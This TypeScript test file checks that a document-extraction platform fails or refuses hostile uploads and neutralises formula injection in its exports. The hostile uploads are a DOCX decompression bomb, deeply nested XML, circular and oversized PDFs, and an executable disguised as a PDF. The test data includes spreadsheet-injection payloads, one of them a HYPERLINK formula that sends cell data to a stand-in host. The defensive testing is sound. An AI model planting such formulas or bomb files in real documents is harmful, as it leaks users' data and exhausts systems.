import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { parse } from 'csv-parse/sync';
import { DocumentProbe, INVOICE, INVOICE_SCHEMA } from '../support/builders/documents.js';
import { rawPdf, sheetPart, wordPart } from '../support/builders/documents/hostile-documents.js';
import { pdf } from '../support/builders/documents/pdf-documents.js';
import { readWorkbook } from '../support/builders/documents/read-workbook.js';
import { startPlatform } from '../support/servers/platform.js';
import type { Platform } from '../support/servers/platform.js';

describe('files that nobody can read', () => {
  let [platform, token]: [Platform, string] = [] as never;
  beforeAll(async () => {
    platform = await startPlatform({ EXTRACTION_MEMORY_MIB: '512' });
    token = (await platform.login()).access_token;
  });
  afterAll(() => platform.close());

  const open = (schema: object = INVOICE_SCHEMA) => DocumentProbe.create(platform, token, { schema });

  it('fail each for a reason of its own, while the others of the request are read', async () => {
    const session = await open();
    const hostile = await hostileFiles();

    const documents = await session.read({ 'first.txt': INVOICE, ...hostile, 'last.txt': INVOICE });

    const failed = documents.filter(({ status }) => status === 'failed');
    expect(Object.fromEntries(failed.map(({ filename, error }) => [filename, error]))).toEqual({
      'password.pdf': 'The file is protected by a password.',
      'half.pdf': 'The file is damaged, or is not what it seems to be.',
      'circle.pdf': 'The file is damaged, or is not what it seems to be.',
      'long.pdf': 'The file holds more than can be read.',
      'bomb.docx': 'The file is built in a way that exhausts whoever reads it.',
      'deep.docx': 'The file is built in a way that exhausts whoever reads it.',
      'wide.xlsx': 'The file holds more than can be read.',
      'nothing.txt': 'The file holds no text.',
      'blank.txt': 'The file holds no text.',
    });
    expect(failed.map(({ pages }) => pages)).toEqual(failed.map(() => null));
    expect((await session.get()).body).toMatchObject({
      status: 'review',
      document_count: failed.length + 2,
      failed_count: failed.length,
      unfinished_count: 0,
      pending_count: 2,
    });
    const { body } = await session.request('GET', '/results');
    const results = body.data as { filename: string; values: { total: unknown } }[];
    expect(
      results
        .filter(({ values }) => values.total === 1200)
        .map(({ filename }) => filename)
        .toSorted(),
    ).toEqual(['first.txt', 'last.txt']);
    expect(results).toHaveLength(failed.length + 2);
  });

  it('are all that a session has: it has failed, and is open for others', async () => {
    const session = await open();
    await session.read({ 'half.pdf': '%PDF-1.7\n1 0 obj\n<<', 'nothing.txt': '' });
    const failed = (await session.get()).body;

    await session.read({ 'invoice.txt': INVOICE });

    expect(failed).toMatchObject({ status: 'failed', unfinished_count: 0, pending_count: 0 });
    expect(failed.failed_count).toBe(failed.document_count);
    expect((await session.get()).body).toMatchObject({ status: 'review', pending_count: 1 });
  });

  it('stay failed when they are read anew, and are counted once', async () => {
    const session = await open();
    const [document] = await session.read({ 'half.pdf': '%PDF-1.7\n1 0 obj\n<<', 'invoice.txt': INVOICE });

    const again = await session.request('POST', `/documents/${document?.id}/reprocess`, {});
    const read = await session.settled(document?.id as string);

    expect([again.status, read.status, read.error]).toEqual([202, 'failed', expect.stringContaining('damaged')]);
    expect((await session.get()).body).toMatchObject({ status: 'review', failed_count: 1, unfinished_count: 0 });
  });

  it('are a page of a thousand: the others are read, and it is told', async () => {
    const session = await open();
    const bytes = await thousandPages(500);

    const [document] = await session.read({ 'thousand.pdf': bytes });

    expect(document).toMatchObject({ status: 'ready', error: null, pages: 1_000, pages_failed: [500] });
    const { body } = await session.request('GET', '/results');
    expect(body.data[0].fields).toMatchObject({
      number: { value: 'INV-2024-0042', page: 1 },
      total: { value: 1200, page: 1_000 },
    });
  });

  it.each([
    ['an office file with a password', 'secret.docx', Buffer.from('d0cf11e0a1b11ae1', 'hex')],
    ['a program', 'invoice.pdf', Buffer.from('7f454c4602010100000000000000', 'hex')],
  ])('are refused with the whole request where their beginning tells: %s', async (_what, name, bytes) => {
    const session = await open();

    const answer = await session.send({ 'invoice.txt': INVOICE, [name]: bytes });

    expect(answer).toMatchObject({ status: 415, body: { error: { message: expect.stringContaining(name) } } });
    expect((await session.get()).body).toMatchObject({ status: 'open', document_count: 0, unfinished_count: 0 });
  });
});

describe('values that programs could take for formulas', () => {
  let [platform, session]: [Platform, DocumentProbe] = [] as never;
  beforeAll(async () => {
    platform = await startPlatform();
    session = await correctedSession(platform, FORMULAS);
  });
  afterAll(() => platform.close());

  it('are kept as they were said, and read from documents as they stand there', async () => {
    const { body } = await session.request('GET', '/results');

    const { reference, ...values } = body.data[0].values;
    expect(body.complete).toBe(true);
    expect(reference).toBe('@SUM(B2)');
    expect(Object.values(values)).toEqual(FORMULAS);
  });

  it('begin in CSV with what makes them texts', async () => {
    const response = await session.fetch('/results?format=csv');

    const [head = [], row = []] = parse(await response.text()) as string[][];
    expect(row[head.indexOf('filename')]).toBe("'=1+1.txt");
    expect(row[head.indexOf('reference')]).toBe("'@SUM(B2)");
    for (const [index, formula] of FORMULAS.entries()) expect(row[head.indexOf(`field${index}`)]).toBe(`'${formula}`);
  });

  it('are strings in XLSX, as are quotes and names of files', async () => {
    const response = await session.fetch('/results?format=xlsx');

    const { documents = [], evidence = [] } = await readWorkbook(Buffer.from(await response.arrayBuffer()));
    const [head = [], row = []] = documents;
    expect(row[head.indexOf('filename')]).toBe('=1+1.txt');
    for (const [index, formula] of FORMULAS.entries()) expect(row[head.indexOf(`field${index}`)]).toBe(formula);
    expect(evidence.slice(1).map((cells) => cells[3])).toEqual(['@SUM(B2)', ...FORMULAS]);
    expect(evidence[1]?.[evidence[0]?.indexOf('quote') ?? -1]).toBe('@SUM(B2)');
  });
});

/** Files whose beginnings look as they should. */
async function hostileFiles(): Promise<Record<string, string | Uint8Array>> {
  const pages = (kids: string, count: number) =>
    rawPdf(
      '<< /Type /Catalog /Pages 2 0 R >>',
      `<< /Type /Pages /Kids [${kids}] /Count ${count} >>`,
      '<< /Type /Page >>',
    );
  return {
    'password.pdf': await pdf((file) => void file.addPage().text(INVOICE), { userPassword: 'p' }),
    'half.pdf': '%PDF-1.7\n1 0 obj\n<<',
    'circle.pdf': pages('2 0 R', 1),
    'long.pdf': pages('3 0 R '.repeat(20_000), 20_000),
    'bomb.docx': await wordPart({ text: ' ', times: 120 * 1024 * 1024 }),
    'deep.docx': await wordPart(`<document>${'<p>'.repeat(100_000)}`),
    'wide.xlsx': await sheetPart('<worksheet><row><c r="XFD1"><v>1</v></c></row></worksheet>'),
    'nothing.txt': '',
    'blank.txt': ' \n'.repeat(1_000),
  };
}

/** A PDF file of a thousand pages, whose values stand on the first and the last. @param broken a page that nobody reads */
function thousandPages(broken: number): Promise<Buffer> {
  const endless = `BT /F1 1 Tf ${'1 0 0 1 72 700 Tm (endless words that fill a page) Tj '.repeat(30_000)} ET`;
  return pdf((file) => {
    for (let number = 1; number <= 1_000; number += 1) {
      file.addPage().fontSize(11);
      if (number === 1) file.text('Invoice number: INV-2024-0042');
      else if (number === broken) file.addContent(endless);
      else file.text(number === 1_000 ? 'Total: 1,200.00 EUR' : `Terms, page ${number} of many.`);
    }
  });
}

/** A field that a document has, and others of which it says nothing. */
function schemaOf(values: readonly string[]): object {
  const missing = values.map((_, index) => [`field${index}`, { type: 'string', title: `Missing ${index}` }]);
  const properties = { reference: { type: 'string', title: 'Reference' }, ...Object.fromEntries(missing) };
  return { type: 'object', required: missing.map(([name]) => name), properties };
}

const FORMULAS = ['=1+1', '=HYPERLINK("http://x.test?"&A1)', '+1+1', '-1+1', '@SUM(A1)', '\t=1+1', '\r=1+1'];

/** A session that is complete, in whose only document a person has put these values. */
async function correctedSession(platform: Platform, values: readonly string[]): Promise<DocumentProbe> {
  const { access_token: token } = await platform.login();
  const session = await DocumentProbe.create(platform, token, { schema: schemaOf(values) });
  await session.read({ '=1+1.txt': 'Reference: @SUM(B2)' });
  const { body } = await session.review();
  for (const { id, field } of body.data as { id: string; field: string }[]) {
    await session.resolve(id, { action: 'correct', value: values[Number(field.slice('field'.length))] });
  }
  return session;
}
